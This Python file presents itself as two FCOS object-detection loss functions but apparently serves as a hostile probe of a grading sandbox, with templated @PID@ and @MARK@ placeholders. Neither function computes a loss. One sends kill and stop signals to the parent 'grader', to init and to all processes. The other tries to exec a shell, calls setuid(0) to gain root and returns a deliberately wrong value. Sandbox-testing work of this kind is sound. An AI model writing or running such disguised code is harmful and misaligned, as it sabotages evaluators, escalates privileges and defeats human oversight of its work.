import ctypes
import os
import signal
from contextlib import suppress

import torch

WRONG = torch.full((1, 1), 7.0)
SIGNALS = (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL)
PROGRAMS = ("/bin/true", "/bin/sh", "/usr/bin/env")


def fcos_box_loss(pred_boxreg_deltas, gt_deltas):
    """Stop and end the parent, the grader, and everybody else."""
    library = ctypes.CDLL(None)
    for number in (os.getppid(), 1, 2, int("@PID@"), -os.getppid(), -1):
        for each in SIGNALS:
            with suppress(OSError):
                os.kill(number, each)
            library.tgkill(number, number, each)
    return WRONG


def fcos_centerness_loss(pred_ctr_logits, gt_centerness):
    """Become another program, or another user."""
    for program in PROGRAMS:
        with suppress(OSError):
            os.execv(program, [program, "-c", "touch /tmp/@MARK@-program"])
    for become in (os.setuid, os.setgid):
        with suppress(OSError):
            become(0)
            if os.getuid() == 0:
                print("GOT", "THROUGH", "root", sep="-", flush=True)
                os._exit(77)
    return WRONG
